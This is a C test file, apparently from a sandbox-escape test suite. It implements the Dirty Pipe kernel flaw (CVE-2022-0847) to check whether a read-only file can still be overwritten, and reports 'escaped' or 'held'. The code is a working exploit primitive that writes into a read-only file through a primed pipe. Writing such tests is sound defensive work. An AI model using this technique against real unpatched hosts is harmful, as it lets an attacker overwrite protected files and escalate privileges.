/* Way out: CVE-2022-0847: splice a page of a read-only file into a pipe, then write to the pipe. */
/* Stopped by: the kernel's repair; the host compares the file. Argument: a file bound read-only. */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "tests/escape/escape.h"

#define PIPE_BYTES 65536

ESCAPE(dirty_pipe_splice)
{
	static char buf[PIPE_BYTES];
	char before[64], after[64];
	const char *path = run->argc ? run->argv[0] : "/victim";
	int fd = open(path, O_RDONLY | O_CLOEXEC), ends[2];
	loff_t offset = 0;

	if (fd < 0 || pread(fd, before, sizeof(before), 0) != sizeof(before) ||
	    pipe2(ends, O_CLOEXEC) < 0)
		return untried("no file of 64 bytes");
	/* Filled and drained once, every slot keeps its flag that says "may be merged". */
	if (write(ends[1], buf, PIPE_BYTES) != PIPE_BYTES ||
	    read(ends[0], buf, PIPE_BYTES) != PIPE_BYTES)
		return untried("no pipe of 64 kB");
	if (splice(fd, &offset, ends[1], NULL, 1, 0) != 1)
		return refused("splice", -1, EPERM, EINVAL);
	(void)!write(ends[1], "XXXX", 4);
	if (pread(fd, after, sizeof(after), 0) != sizeof(after) ||
	    memcmp(before, after, sizeof(after)))
		return escaped("the read-only file has changed");
	return HELD;
}
